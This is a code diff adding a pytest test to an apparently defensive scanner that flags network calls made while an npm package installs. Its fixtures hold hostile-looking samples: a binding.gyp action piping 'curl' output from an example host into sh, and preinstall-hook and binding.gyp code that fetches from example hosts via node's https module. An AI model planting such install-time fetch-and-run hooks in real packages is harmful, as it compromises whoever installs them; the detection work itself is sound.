@@ -133,3 +133,18 @@ def test_binding_gyp_actions_run_when_npm_builds_the_addon(tmp_path: Path) -> No
                        "     'action': ['sh', '-c', 'curl -s https://h23.example.com/p | sh'] } ] } ] }\n",
     })
     assert _install_network(root, tmp_path / "c") == [("curl", "binding.gyp", 3)]
+
+
+def test_inline_code_a_hook_script_runs_is_analysed_on_its_line(tmp_path: Path) -> None:
+    """`node -e "…"` inside the shell script a hook runs, and inside a binding.gyp expansion."""
+    root = _package(tmp_path / "h24", {"preinstall": "sh ./setup.sh"}, {
+        "index.js": "module.exports = 1;\n",
+        "setup.sh": "#!/bin/sh\necho start\nnode -e \"require('https').get('https://h24.example.com/s')\"\n",
+    })
+    assert _install_network(root, tmp_path / "c") == [("https.get", "setup.sh", 3)]
+    gyp = _package(tmp_path / "h25", None, {
+        "index.js": "module.exports = 1;\n",
+        "binding.gyp": "{'targets':[{'target_name':'y',\n"
+                       "'sources':['<!(node -e \"require(\\'https\\').get(\\'https://h25.example.com/\\')\")']}]}\n",
+    })
+    assert _install_network(gyp, tmp_path / "c2") == [("https.get", "binding.gyp", 2)]
